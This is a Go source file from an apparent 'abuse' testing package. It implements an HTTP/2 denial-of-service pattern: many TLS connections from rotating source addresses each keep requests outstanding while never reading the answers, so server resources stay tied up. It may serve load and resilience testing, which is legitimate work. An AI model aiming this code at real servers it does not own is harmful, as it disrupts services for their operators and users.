package abuse

import (
	"context"
	"net/netip"
	"time"

	"github.com/vstack/vstack/internal/stranger"
)

func closedH2(ctx context.Context, c *crew) error { return c.deaf(ctx, 8*c.Strength, 128) }

func closedAnswers(ctx context.Context, c *crew) error { return c.deaf(ctx, 4*c.Strength, 100) }

func stuckFeeds(ctx context.Context, c *crew) error { return c.deaf(ctx, 4*c.Strength, 100) }

// deaf keeps connections whose window is closed, each with so many requests unanswered: for
// one that is given up another is asked.
func (c *crew) deaf(ctx context.Context, conns, requests int) error {
	return c.keep(ctx, conns, func(ctx context.Context, from netip.Addr) error {
		conn, err := c.dialTLS(ctx, from, "h2")
		if err != nil {
			return err
		}
		d, err := stranger.Greet(conn, c.Target)
		if err != nil {
			return err
		}
		defer d.Close()
		look := time.NewTicker(200 * time.Millisecond)
		defer look.Stop()
		for asked := 0; ; {
			for _, reset := d.Answered(); asked < requests+reset; asked++ {
				if err := d.Ask(c.path()); err != nil {
					return err
				}
				c.did.requests.Add(1)
			}
			select {
			case <-d.Closed():
				return context.Canceled
			case <-ctx.Done():
				return nil
			case <-look.C:
			}
		}
	})
}
